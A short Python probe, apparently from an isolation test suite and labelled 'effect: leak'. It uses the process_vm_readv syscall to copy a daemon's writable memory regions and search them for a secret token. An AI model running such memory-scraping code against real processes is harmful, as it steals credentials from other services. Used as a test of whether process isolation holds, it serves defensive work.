# effect: leak
# note: process_vm_readv over the writable maps of the daemon
import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    pid = probe["daemon"]
    for line in open(f"/proc/{pid}/maps"):
        span, rights, *_ = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if not rights.startswith("rw") or end - start > 1 << 26:
            continue
        space = ctypes.create_string_buffer(end - start)
        local = (ctypes.c_uint64 * 2)(ctypes.addressof(space), end - start)
        remote = (ctypes.c_uint64 * 2)(start, end - start)
        syscall(310, 270, pid, local, 1, remote, 1, 0)
        at = space.raw.find(b"anpd-secret-")
        if at >= 0:
            return space.raw[at : at + 60]
